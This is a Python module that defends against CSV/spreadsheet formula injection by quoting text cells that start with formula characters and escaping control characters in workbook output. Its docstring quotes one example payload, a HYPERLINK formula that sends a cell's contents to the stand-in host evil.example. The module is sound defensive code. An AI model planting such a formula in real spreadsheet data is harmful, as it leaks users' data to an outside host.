"""Text bound for a spreadsheet, made inert (docs/documents.md, "Formulas"): a client's name such
as ``=HYPERLINK("http://evil.example/?"&A1)`` must reach the accountant's sheet as text, never run
as a formula (OWASP, "CSV Injection").

- In the CSV, a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
  gets a leading ``'``, which spreadsheets read as "this is text" and hide. A number (``-1400.00``)
  is left as it is, so amounts stay numeric.
- In the workbook every text value is written as a string cell, which a spreadsheet never
  evaluates, so the text stays exactly as it was; the control characters a workbook cannot hold
  (XML 1.0) are shown visibly, ``\\x1b``, as the engine's text output shows them.

The engine's own CSV (``tariff price -f csv``, ``Tariff.priced_csv``) is data for programs and is
written byte for byte as it is; only these documents are neutralised.
"""

from __future__ import annotations

import re
from typing import Any

__all__ = ["FORMULA_STARTS", "csv_cell", "workbook_text"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?\Z")
# The characters XML 1.0 (and so openpyxl) refuses: C0 controls but tab, LF and CR.
_NOT_IN_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def csv_cell(text: str) -> str:
    """``text`` as a CSV cell a spreadsheet cannot run: ``'=SUM(A1)``; numbers as they are."""
    if text.startswith(FORMULA_STARTS) and not _NUMBER.match(text):
        return "'" + text
    return text


def workbook_text(value: Any) -> Any:
    """A text value with the characters a workbook cannot hold shown as ``\\xHH``; other values
    as they are."""
    if isinstance(value, str):
        return _NOT_IN_XML.sub(lambda m: f"\\x{ord(m.group()):02x}", value)
    return value
